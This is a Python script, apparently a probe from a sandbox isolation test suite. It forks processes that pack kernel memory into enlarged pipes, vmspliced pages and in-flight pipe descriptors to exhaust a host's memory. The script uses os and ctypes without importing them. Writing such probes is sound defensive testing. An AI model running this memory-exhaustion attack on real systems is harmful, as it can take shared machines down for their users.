# what: hides memory in enlarged pipes, in pages spliced into pipes and given up, and in pipes that travel in messages
# none: succeeds
# harm: boast
# needs: root
# expected: no harm
import contextlib, fcntl, mmap, socket, time

libc = ctypes.CDLL(None, use_errno=True)
room = target.memory * 0.75 / 8


def fill(end, block=bytes(2**16)):
    held = 0
    os.set_blocking(end, False)
    try:
        while True:
            held += os.write(end, block)
    except BlockingIOError:
        return held


def enlarged():
    reader, writer = os.pipe()
    with contextlib.suppress(OSError):
        fcntl.fcntl(writer, 1031, 2**20)
    return fill(writer)


def given_up():
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    page = mmap.mmap(-1, 2**16)
    page.write(b"x" * 2**16)
    start = ctypes.c_char.from_buffer(page)
    held = libc.vmsplice(writer, (ctypes.c_size_t * 2)(ctypes.addressof(start), 2**16), 1, 0)
    del start
    page.close()
    return max(held, 0)


carrier = socket.socketpair()
carrier[0].setblocking(False)


def under_way():
    reader, writer = os.pipe()
    try:
        held = fill(writer)
        socket.send_fds(carrier[0], [b"x"], [reader])
        return held
    finally:
        os.close(reader)
        os.close(writer)


reader, writer = os.pipe()
os.set_blocking(reader, False)
until = time.monotonic() + 3.2
for _ in range(8):
    try:
        if os.fork() == 0:
            held = 0
            for way in (under_way, enlarged, given_up):
                with contextlib.suppress(OSError):
                    while held < room:
                        held += way() or 2**30
            os.write(writer, b"%020d" % (held % 2**30))
            time.sleep(max(0, until - time.monotonic()))
            os._exit(0)
    except OSError as problem:
        print(problem)
        break
total = 0
while time.monotonic() < until:
    try:
        total += int(os.read(reader, 20))
    except BlockingIOError:
        time.sleep(0.02)
print(total)
if total > target.memory * 0.7:
    obtained(f"{total} bytes in the kernel")
